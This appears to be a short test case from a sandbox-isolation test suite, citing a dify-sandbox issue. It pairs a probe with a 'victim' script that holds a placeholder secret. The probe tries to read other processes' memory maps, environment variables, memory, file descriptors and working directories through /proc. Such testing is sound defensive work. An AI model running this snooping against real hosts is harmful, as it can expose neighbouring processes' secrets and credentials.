# Reads a neighbour's memory, environment and files through /proc.
# source: history 25, 40 (dify-sandbox issue 225)
# control: host
# kind: pair
import glob
import os

from attempts import attempt

own = {str(os.getpid()), "1"}
for path in [p for p in glob.glob("/proc/[0-9]*") if p.split("/")[2] not in own][-20:] or ["/proc/9999"]:
    for name in ("maps", "environ", "mem", "fd", "cwd"):
        attempt(f"{path}/{name}", lambda: os.listdir(f"{path}/{name}") if name in ("fd", "cwd") else open(f"{path}/{name}", "rb").read(10))

# === victim
x = '{{secret}}'
import time
print('ready', flush=True)
time.sleep(3)
